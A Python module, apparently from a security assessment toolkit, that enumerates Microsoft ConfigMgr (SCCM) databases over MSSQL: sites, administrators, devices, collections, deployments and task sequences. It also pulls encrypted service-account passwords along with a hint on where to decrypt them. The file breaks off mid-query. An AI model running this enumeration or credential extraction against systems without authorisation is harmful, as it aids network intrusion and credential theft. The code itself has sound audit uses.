#!/usr/bin/python3

##########################################################
#                     Dependencies                       #
##########################################################

# MSSQL connection and helpers
from Utils.MSSQL.MSSQLUtil import SQLError, print_yellow, print_exception, print_warning, maybeSleep, runTargets, escape, format_datetime

# ConfigMgr service
from Utils.SCCM import CMService

# OUTPUT = Markdown/CSV
from Utils.OUTPUT import OutputUtil

# Others
import sys, os, time, json, uuid, random
import pandas as dp

DEFAULT_LIMIT = 50
DEFAULT_WAIT = 2

def siteDatabases(ctx):
	service = CMService.CMService(ctx.query_service)
	databases = service.get_sccm_databases()
	if databases == []:
		print("[-] No ConfigMgr databases found", file = sys.stderr)
	return service, databases

def printSite(db):
	print(f"[+] ConfigMgr database: {db} (Site Code: {CMService.get_site_code(db)})")

def topClause(limit):
	if limit is None or limit <= 0:
		return ""
	return f"TOP {int(limit)} "

def like(value):
	return f"'%{escape(value)}%'"

def replaceColumn(table, column, newColumn, decoder):
	if column not in table.columns:
		return table
	position = list(table.columns).index(column)
	values = [decoder(v) for v in table[column]]
	table = table.drop(columns = [column])
	table.insert(position, newColumn, values)
	return table

def truncate(value, size):
	value = '' if value is None else str(value)
	if len(value) > size:
		return value[:size] + '...'
	return value

##################################################
#                     Site                       #
##################################################

def getInfo(ctx):
	print_yellow("[*] Enumerating ConfigMgr sites")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		service, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			siteCode = CMService.get_site_code(db)
			try:
				site = ctx.query_service.execute_table(f"SELECT SiteCode, SiteName, Version, BuildNumber, InstallDir, ServerName, ReportServerInstance, SiteServer "
														f"FROM [{db}].dbo.Sites WHERE SiteCode = '{escape(siteCode)}';")
				OutputUtil.print_table(site)

				for title, method in [("Component status", service.get_component_status),
									("Site system roles", service.get_site_system_roles),
									("Boundaries", service.get_boundaries),
									("Distribution points", service.get_distribution_points)]:
					print(f"\t[+] {title}")
					OutputUtil.print_table(method(db))
					maybeSleep()
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getServers(ctx):
	print_yellow("[*] Enumerating ConfigMgr site servers")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT DISTINCT sd.SiteCode, sd.SiteServerName, sd.SiteDatabaseName, sd.SiteDatabaseServer,
	CASE sd.SiteType
		WHEN 1 THEN 'Secondary Site'
		WHEN 2 THEN 'Primary Site'
		WHEN 4 THEN 'Central Administration Site'
		ELSE 'Unknown'
	END AS SiteType,
	s.NALPath, s.RoleName
FROM [{db}].dbo.SC_SiteDefinition sd
LEFT JOIN [{db}].dbo.ServerData s ON sd.SiteCode = s.SiteCode
WHERE sd.SiteServerName IS NOT NULL
ORDER BY sd.SiteCode, sd.SiteServerName;""")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getAdmins(ctx, filter = None):
	print_yellow("[*] Enumerating ConfigMgr RBAC administrators")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE LogonName LIKE {like(filter)} " if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"SELECT * FROM [{db}].dbo.RBAC_Admins {where}ORDER BY CreatedDate DESC;")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getAccounts(ctx):
	print_yellow("[*] Enumerating ConfigMgr site accounts")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT ua.ID, ua.SiteNumber, ua.UserName, CONVERT(VARCHAR(MAX), ua.Password, 1) AS Password,
	ua.Availability, sd.SiteCode, sd.SiteServerName
FROM [{db}].dbo.SC_UserAccount ua
LEFT JOIN [{db}].dbo.SC_SiteDefinition sd ON ua.SiteNumber = sd.SiteNumber
ORDER BY ua.UserName;""")
				OutputUtil.print_table(table)
				if len(table) > 0:
					print("[+] Passwords are encrypted with the site server key, decrypt them on the site server")
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

#####################################################
#                     Devices                       #
#####################################################

def devicesQuery(db, where, limit, legacy):
	if legacy:
		users = f"""STUFF((
		SELECT ', ' + cu.SystemConsoleUser0 + ' (' + CONVERT(VARCHAR(10), cu.LastConsoleUse0, 120) + ', '
			+ CAST(ISNULL(cu.NumberOfConsoleLogons0, 0) AS VARCHAR) + ' logons)'
		FROM [{db}].dbo.v_GS_SYSTEM_CONSOLE_USER cu
		WHERE cu.ResourceID = sys.ResourceID
		ORDER BY cu.LastConsoleUse0 DESC
		FOR XML PATH(''), TYPE
	).value('.', 'NVARCHAR(MAX)'), 1, 2, '')"""
		collections = f"""STUFF((
		SELECT ', ' + col.Name
		FROM [{db}].dbo.v_FullCollectionMembership cm
		INNER JOIN [{db}].dbo.v_Collection col ON cm.CollectionID = col.CollectionID
		WHERE cm.ResourceID = sys.ResourceID AND col.CollectionType = 2
		FOR XML PATH(''), TYPE
	).value('.', 'NVARCHAR(MAX)'), 1, 2, '')"""
	else:
		users = f"""(
		SELECT STRING_AGG(cu.SystemConsoleUser0 + ' (' + CONVERT(VARCHAR(10), cu.LastConsoleUse0, 120) + ', '
			+ CAST(ISNULL(cu.NumberOfConsoleLogons0, 0) AS VARCHAR) + ' logons)', ', ') WITHIN GROUP (ORDER BY cu.LastConsoleUse0 DESC)
		FROM [{db}].dbo.v_GS_SYSTEM_CONSOLE_USER cu
		WHERE cu.ResourceID = sys.ResourceID
	)"""
		collections = f"""(
		SELECT STRING_AGG(col.Name, ', ')
		FROM [{db}].dbo.v_FullCollectionMembership cm
		INNER JOIN [{db}].dbo.v_Collection col ON cm.CollectionID = col.CollectionID
		WHERE cm.ResourceID = sys.ResourceID AND col.CollectionType = 2
	)"""

	return f"""
SELECT {topClause(limit)}
	sys.Name0 AS DeviceName, sys.ResourceID, sys.Resource_Domain_OR_Workgr0 AS Domain,
	sys.Distinguished_Name0 AS DistinguishedName, sys.User_Name0 AS LastConsoleUser,
	{users} AS InventoriedUsers,
	sys.User_Account_Control0 AS UserAccountControl, sys.Operating_System_Name_and0 AS OperatingSystem,
	sys.Client0 AS Client, sys.Client_Version0 AS ClientVersion, sys.Decommissioned0 AS Decommissioned,
	bgb.OnlineStatus, bgb.LastOnlineTime, chs.LastPolicyRequest, sys.AD_Site_Name0 AS ADSite,
	bgb.IPAddress, bgb.AccessMP, sys.Is_Virtual_Machine0 AS IsVirtualMachine,
	sys.Virtual_Machine_Type0 AS VMTypeRaw, sys.ManagementAuthority AS ManagementAuthority,
	sys.Creation_Date0 AS RegisteredDate,
	{collections} AS Collections
FROM [{db}].dbo.v_R_System sys
LEFT JOIN [{db}].dbo.BGB_ResStatus bgb ON sys.ResourceID = bgb.ResourceID
LEFT JOIN [{db}].dbo.v_CH_ClientSummary chs ON sys.ResourceID = chs.ResourceID
{where}
ORDER BY bgb.OnlineStatus DESC, bgb.LastOnlineTime DESC, chs.LastPolicyRequest DESC, sys.Client0 DESC, sys.Decommissioned0 ASC;"""

def getDevices(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr devices")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE sys.Name0 LIKE {like(filter)}" if filter else ""
		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				if qs.is_legacy():
					table = qs.execute_table(devicesQuery(db, where, limit, True))
				else:
					table = qs.execute_table_fallback(devicesQuery(db, where, limit, False), devicesQuery(db, where, limit, True))
				if len(table) == 0:
					print_warning("No devices found")
					continue

				table = replaceColumn(table, 'UserAccountControl', 'AccountStatus', CMService.decode_account_control)
				table = replaceColumn(table, 'VMTypeRaw', 'VMType', CMService.decode_vm_type)
				table = replaceColumn(table, 'ManagementAuthority', 'Management', CMService.decode_management_authority)
				OutputUtil.print_table(table)
				print(f"[+] Found {len(table)} device(s)")
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getDevice(ctx, name):
	print_yellow(f"[*] Retrieving ConfigMgr device {name}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				rows = qs.execute(f"""
SELECT
	sys.ResourceID, sys.Name0 AS DeviceName, sys.Resource_Domain_OR_Workgr0 AS Domain, sys.User_Name0 AS LastUser,
	bgb.IPAddress, sys.Operating_System_Name_and0 AS OperatingSystem, os.Version0 AS OSVersion,
	sys.Client0 AS HasClient, sys.Client_Version0 AS ClientVersion, sys.AD_Site_Name0 AS ADSite,
	sys.Decommissioned0 AS Decommissioned, cs.Manufacturer0 AS Manufacturer, cs.Model0 AS Model,
	bgb.OnlineStatus, bgb.LastOnlineTime, bgb.LastOfflineTime, bgb.AccessMP, ws.LastHWScan,
	chs.LastPolicyRequest, chs.LastDDR, chs.LastSW AS LastSoftwareScan, uss.LastScanTime AS LastUpdateScan,
	uss.LastErrorCode AS UpdateScanErrorCode, sys.Creation_Date0 AS CreationDate
FROM [{db}].dbo.v_R_System sys
LEFT JOIN [{db}].dbo.v_GS_OPERATING_SYSTEM os ON sys.ResourceID = os.ResourceID
LEFT JOIN [{db}].dbo.v_GS_COMPUTER_SYSTEM cs ON sys.ResourceID = cs.ResourceID
LEFT JOIN [{db}].dbo.BGB_ResStatus bgb ON sys.ResourceID = bgb.ResourceID
LEFT JOIN [{db}].dbo.v_GS_WORKSTATION_STATUS ws ON sys.ResourceID = ws.ResourceID
LEFT JOIN [{db}].dbo.v_CH_ClientSummary chs ON sys.ResourceID = chs.ResourceID
LEFT JOIN [{db}].dbo.v_UpdateScanStatus uss ON sys.ResourceID = uss.ResourceID
WHERE sys.Name0 = '{escape(name)}';""")
				if rows == []:
					continue

				device = rows[0]
				resourceId = int(device['ResourceID'])
				print(f"[+] Device: {device['DeviceName']} (ResourceID: {resourceId})")
				OutputUtil.print_dict({k: '' if v is None else str(v) for k, v in device.items()})
				maybeSleep()

				print("[+] Collection Memberships")
				collections = qs.execute_table(f"""
SELECT c.CollectionID, c.Name AS CollectionName, c.MemberCount,
	CASE c.CollectionType WHEN 1 THEN 'User' WHEN 2 THEN 'Device' ELSE 'Other' END AS Type
FROM [{db}].dbo.v_FullCollectionMembership cm
INNER JOIN [{db}].dbo.v_Collection c ON cm.CollectionID = c.CollectionID
WHERE cm.ResourceID = {resourceId}
ORDER BY c.CollectionID;""")
				OutputUtil.print_table(collections)
				maybeSleep()

				print("[+] Deployments Targeting This Device")
				deployments = qs.execute_table(f"""
SELECT DISTINCT
	CASE WHEN ds.FeatureType = 2 THEN adv.AdvertisementID ELSE CAST(ds.AssignmentID AS VARCHAR) END AS DeploymentID,
	ds.SoftwareName, ds.CollectionID, c.Name AS CollectionName, ds.FeatureType AS FeatureTypeRaw,
	ds.DeploymentIntent AS DeploymentIntentRaw, ds.DeploymentTime, ds.NumberSuccess, ds.NumberInProgress, ds.NumberErrors
FROM [{db}].dbo.v_FullCollectionMembership cm
INNER JOIN [{db}].dbo.v_DeploymentSummary ds ON cm.CollectionID = ds.CollectionID
INNER JOIN [{db}].dbo.v_Collection c ON ds.CollectionID = c.CollectionID
LEFT JOIN [{db}].dbo.v_Advertisement adv ON ds.CollectionID = adv.CollectionID
	AND ds.PackageID = adv.PackageID AND ds.ProgramName = adv.ProgramName AND ds.FeatureType = 2
WHERE cm.ResourceID = {resourceId}
ORDER BY ds.DeploymentTime DESC;""")
				deployments = replaceColumn(deployments, 'FeatureTypeRaw', 'DeploymentType', CMService.decode_feature_type)
				deployments = replaceColumn(deployments, 'DeploymentIntentRaw', 'Intent', CMService.decode_deployment_intent)
				OutputUtil.print_table(deployments)
				return device
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")

		print_warning(f"Device '{name}' not found in any ConfigMgr database")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getHealth(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr client health")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE sys.Name0 LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	sys.ResourceID, sys.Name0 AS DeviceName, sys.Resource_Domain_OR_Workgr0 AS Domain,
	ch.ClientActiveStatus, ch.ClientState, ch.ClientStateDescription, ch.LastActiveTime, ch.LastOnline,
	ch.LastDDR, ch.LastHW AS LastHardwareScan, ch.LastSW AS LastSoftwareScan, ch.LastPolicyRequest,
	ch.LastHealthEvaluation, ch.LastHealthEvaluationResult, ch.LastEvaluationHealthy,
	us.LastScanTime AS LastUpdateScanTime, us.LastErrorCode AS UpdateScanErrorCode, us.LastWUAVersion AS WindowsUpdateAgent
FROM [{db}].dbo.v_R_System sys
LEFT JOIN [{db}].dbo.v_CH_ClientSummary ch ON sys.ResourceID = ch.ResourceID
LEFT JOIN [{db}].dbo.v_UpdateScanStatus us ON sys.ResourceID = us.ResourceID
{where}
ORDER BY ch.LastActiveTime DESC;""")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getDistributionPoints(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr distribution points")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE ServerName LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	DPID, ServerName, NALPath, ShareName, SMSSiteCode, Type, State,
	CASE State
		WHEN 0 THEN 'Not Installed'
		WHEN 1 THEN 'Installed'
		WHEN 2 THEN 'Installation Failed'
		WHEN 3 THEN 'Installation Pending'
		ELSE CAST(State AS VARCHAR)
	END AS StateDescription,
	IsActive, IsPXE, IsPullDP, IsBITS, IsMulticast, Description, MaintenanceMode,
	AnonymousEnabled, TokenAuthEnabled, SslState, IsProtected
FROM [{db}].dbo.DistributionPoints
{where}
ORDER BY ServerName;""")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

#########################################################
#                     Collections                       #
#########################################################

def getCollections(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr collections")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE Name LIKE {like(filter)} OR Comment LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"SELECT {topClause(limit)}* FROM [{db}].dbo.v_Collection {where} "
														"ORDER BY LastChangeTime DESC, LastRefreshTime DESC, MemberCount DESC;")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def collectionMembersQuery(db, collectionId, collectionType):
	if collectionType == 2:
		return f"""
SELECT sys.Name0 AS DeviceName, sys.ResourceID, sys.Resource_Domain_OR_Workgr0 AS Domain, sys.User_Name0 AS LastUser,
	sys.Operating_System_Name_and0 AS OperatingSystem, sys.Client0 AS HasClient, sys.Client_Version0 AS ClientVersion,
	sys.AD_Site_Name0 AS ADSite, cm.IsDirect
FROM [{db}].dbo.v_FullCollectionMembership cm
INNER JOIN [{db}].dbo.v_R_System sys ON cm.ResourceID = sys.ResourceID
WHERE cm.CollectionID = '{escape(collectionId)}'
ORDER BY sys.Client0 DESC, sys.Name0;"""
	return f"""
SELECT usr.Unique_User_Name0 AS UserName, usr.ResourceID, usr.Windows_NT_Domain0 AS Domain,
	usr.Full_User_Name0 AS FullName, usr.Mail0 AS Mail, cm.IsDirect
FROM [{db}].dbo.v_FullCollectionMembership cm
INNER JOIN [{db}].dbo.v_R_User usr ON cm.ResourceID = usr.ResourceID
WHERE cm.CollectionID = '{escape(collectionId)}'
ORDER BY usr.Unique_User_Name0;"""

def getCollection(ctx, collectionId):
	print_yellow(f"[*] Retrieving ConfigMgr collection {collectionId}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				collection = qs.execute_table(f"""
SELECT c.CollectionID, c.Name, c.Comment, c.CollectionType,
	CASE c.CollectionType WHEN 0 THEN 'Other' WHEN 1 THEN 'User' WHEN 2 THEN 'Device' ELSE 'Unknown' END AS TypeName,
	c.MemberCount, c.LastRefreshTime, c.LastMemberChangeTime, c.LastChangeTime, c.EvaluationStartTime,
	c.RefreshType, c.CurrentStatus, c.MemberClassName
FROM [{db}].dbo.v_Collection c
WHERE c.CollectionID = '{escape(collectionId)}';""")
				if len(collection) == 0:
					continue

				row = collection.iloc[0]
				print(f"[+] Collection: {row['Name']} ({collectionId})")
				OutputUtil.print_table(collection)
				maybeSleep()

				print("[+] Deployments Targeting This Collection")
				deployments = qs.execute_table(f"""
SELECT
	CASE WHEN ds.AssignmentID = 0 THEN CAST(adv.AdvertisementID AS VARCHAR) ELSE CAST(ds.AssignmentID AS VARCHAR) END AS DeploymentID,
	ds.SoftwareName, ds.FeatureType, ds.DeploymentIntent, ds.NumberSuccess, ds.NumberInProgress, ds.NumberErrors,
	ds.NumberUnknown, ds.DeploymentTime, ds.ModificationTime
FROM [{db}].dbo.v_DeploymentSummary ds
LEFT JOIN [{db}].dbo.v_Advertisement adv ON ds.PackageID = adv.PackageID AND adv.CollectionID = ds.CollectionID AND ds.FeatureType = 2
WHERE ds.CollectionID = '{escape(collectionId)}'
ORDER BY ds.DeploymentTime DESC;""")
				deployments = replaceColumn(deployments, 'FeatureType', 'DeploymentType', CMService.decode_feature_type)
				deployments = replaceColumn(deployments, 'DeploymentIntent', 'Intent', CMService.decode_deployment_intent)
				OutputUtil.print_table(deployments)
				maybeSleep()

				memberCount = CMService.to_int(row['MemberCount']) or 0
				print(f"[+] Collection Members ({memberCount})")
				if memberCount > 0:
					members = qs.execute_table(collectionMembersQuery(db, collectionId, CMService.to_int(row['CollectionType'])))
					OutputUtil.print_table(members)
				return collection
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")

		print_warning(f"Collection '{collectionId}' not found in any ConfigMgr database")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

##########################################################
#                     Applications                       #
##########################################################

def getApplications(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr applications")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = "WHERE ci.CIType_ID = 10"
		if filter:
			where += f" AND (lp.DisplayName LIKE {like(filter)} OR ci.ModelName LIKE {like(filter)})"
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	ci.CI_ID, COALESCE(lp.DisplayName, ci.ModelName) AS DisplayName, ci.ModelName, ci.CI_UniqueID, ci.CIVersion,
	ci.IsDeployed, ci.IsEnabled, ci.IsExpired, ci.IsSuperseded, ci.IsHidden, ci.ContentSourcePath,
	ci.CreatedBy, ci.DateCreated, ci.LastModifiedBy, ci.DateLastModified
FROM [{db}].dbo.v_ConfigurationItems ci
LEFT JOIN (
	SELECT CI_ID, MIN(DisplayName) AS DisplayName
	FROM [{db}].dbo.v_LocalizedCIProperties
	WHERE DisplayName IS NOT NULL AND DisplayName != ''
	GROUP BY CI_ID
) lp ON ci.CI_ID = lp.CI_ID
{where}
ORDER BY ci.IsDeployed DESC, ci.DateCreated DESC;""")
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getPackages(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr packages")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE p.Name LIKE {like(filter)} OR p.PkgSourcePath LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	p.PackageID, p.Name, p.Description, p.PkgSourcePath, p.Manufacturer, p.Version, p.PackageType,
	p.SourceVersion, p.SourceDate, p.LastRefreshTime,
	COUNT(DISTINCT pr.ProgramName) AS ProgramCount,
	COUNT(DISTINCT adv.AdvertisementID) AS DeploymentCount
FROM [{db}].dbo.v_Package p
LEFT JOIN [{db}].dbo.v_Program pr ON p.PackageID = pr.PackageID
LEFT JOIN [{db}].dbo.v_Advertisement adv ON p.PackageID = adv.PackageID
{where}
GROUP BY p.PackageID, p.Name, p.Description, p.PkgSourcePath, p.Manufacturer, p.Version, p.PackageType,
	p.SourceVersion, p.SourceDate, p.LastRefreshTime
ORDER BY p.Name;""")
				if 'PackageType' in table.columns:
					table['PackageType'] = [CMService.decode_package_type(v) for v in table['PackageType']]
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getPrograms(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr programs")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE pr.ProgramName LIKE {like(filter)} OR pr.CommandLine LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	pr.PackageID, pk.Name AS PackageName, pr.ProgramName, pr.CommandLine, pr.WorkingDirectory, pr.Comment,
	pr.ProgramFlags, pr.Duration, pr.DiskSpaceRequired, pr.DependentProgram
FROM [{db}].dbo.v_Program pr
LEFT JOIN [{db}].dbo.v_Package pk ON pr.PackageID = pk.PackageID
{where}
ORDER BY pk.Name, pr.ProgramName;""")
				if 'ProgramFlags' in table.columns:
					table.insert(list(table.columns).index('ProgramFlags'), 'DecodedFlags', [CMService.decode_program_flags(v) for v in table['ProgramFlags']])
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getDeployments(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr deployments")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE adv.AdvertisementName LIKE {like(filter)} OR pk.Name LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"""
SELECT {topClause(limit)}
	adv.AdvertisementID, adv.AdvertisementName, adv.PackageID, pk.Name AS PackageName, adv.ProgramName,
	adv.CollectionID, c.Name AS CollectionName, adv.OfferType, adv.AdvertFlags, adv.RemoteClientFlags,
	adv.PresentTime, adv.ExpirationTime
FROM [{db}].dbo.v_Advertisement adv
LEFT JOIN [{db}].dbo.v_Package pk ON adv.PackageID = pk.PackageID
LEFT JOIN [{db}].dbo.v_Collection c ON adv.CollectionID = c.CollectionID
{where}
ORDER BY adv.PresentTime DESC;""")
				for column, decoder in [('OfferType', CMService.decode_offer_type),
										('AdvertFlags', CMService.decode_advert_flags),
										('RemoteClientFlags', CMService.decode_remote_client_flags)]:
					if column in table.columns:
						table[column] = [decoder(v) for v in table[column]]
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def deploymentTypeRows(rows, detailed = False, technology = None, filter = None):
	results = []
	for row in rows:
		info = CMService.parse_sdm_package_digest(row.get('SDMPackageDigest'), detailed)
		if technology and technology.lower() not in info.Technology.lower():
			continue
		if filter and filter.lower() not in info.InstallCommand.lower() and filter.lower() not in info.ContentLocation.lower():
			continue

		result = {"CI_ID": row.get('CI_ID'), "Title": row.get('Title')}
		result.update(info.to_dict(detailed))
		result["InstallCommand"] = truncate(result["InstallCommand"], 150)
		result["ContentLocation"] = truncate(result["ContentLocation"], 100)
		for key in ['IsEnabled', 'IsExpired', 'IsHidden', 'CreatedBy', 'DateCreated', 'LastModifiedBy', 'DateLastModified']:
			result[key] = row.get(key)
		results.append(result)
	return results

def getDeploymentTypes(ctx, detailed = False, technology = None, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr deployment types")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				rows = ctx.query_service.execute(f"""
SELECT {topClause(limit)}
	ci.CI_ID, ci.CIVersion, ci.IsEnabled, ci.IsExpired, ci.IsHidden, ci.DateCreated, ci.CreatedBy,
	ci.DateLastModified, ci.LastModifiedBy, ci.SDMPackageDigest, lcp.Title
FROM [{db}].dbo.CI_ConfigurationItems ci
LEFT JOIN [{db}].dbo.CI_LocalizedCIClientProperties lcp ON ci.CI_ID = lcp.CI_ID AND lcp.LocaleID = 1033
WHERE ci.CIType_ID = 21
ORDER BY ci.DateLastModified DESC, ci.DateCreated DESC;""")
				results = deploymentTypeRows(rows, detailed, technology, filter)
				if results == []:
					print_warning(f"No deployment types found matching the specified filters in {db}")
					continue
				OutputUtil.print_table(dp.DataFrame(results))
				print(f"[+] Found {len(results)} deployment type(s)")
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

############################################################
#                     Task Sequences                       #
############################################################

def taskSequenceQuery(db, where, limit = None):
	return f"""
SELECT {topClause(limit)}
	ts.PackageID, ts.Name, ts.Description, ts.Version, ts.Manufacturer, ts.Language, ts.SourceDate, ts.SourceVersion,
	ts.PkgSourcePath AS SourcePath, ts.StoredPkgPath, ts.LastRefreshTime, ts.BootImageID, bi.Name AS BootImageName,
	ts.TS_Type, ts.TS_Flags,
	(SELECT COUNT(*) FROM [{db}].dbo.v_TaskSequenceReferencesInfo ref WHERE ref.PackageID = ts.PackageID) AS ReferencedContentCount
FROM [{db}].dbo.v_TaskSequencePackage ts
LEFT JOIN [{db}].dbo.v_BootImagePackage bi ON ts.BootImageID = bi.PackageID
{where}
ORDER BY ts.Name;"""

def getTaskSequences(ctx, filter = None, limit = DEFAULT_LIMIT):
	print_yellow("[*] Enumerating ConfigMgr task sequences")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f"WHERE ts.Name LIKE {like(filter)} OR ts.PackageID LIKE {like(filter)} OR ts.Description LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(taskSequenceQuery(db, where, limit))
				if len(table) == 0:
					print_warning("No task sequences found")
					continue
				OutputUtil.print_table(table)
				print(f"[+] Found {len(table)} task sequence(s)")
				print("\t[+] Use --taskSequence <PackageID> to view the referenced content of one task sequence")
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getTaskSequence(ctx, packageId):
	print_yellow(f"[*] Retrieving ConfigMgr task sequence {packageId}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				ts = qs.execute_table(taskSequenceQuery(db, f"WHERE ts.PackageID = '{escape(packageId)}'"))
				if len(ts) == 0:
					print_warning(f"Task sequence '{packageId}' not found")
					continue

				row = ts.iloc[0]
				refCount = CMService.to_int(row['ReferencedContentCount']) or 0
				print(f"[+] Task Sequence: {row['Name']} ({packageId})")
				print(f"\t[+] Referenced Content Count: {refCount}")
				OutputUtil.print_table(ts)
				maybeSleep()

				if refCount > 0:
					print(f"[+] Referenced Content ({refCount} item(s))")
					refs = qs.execute_table(f"""
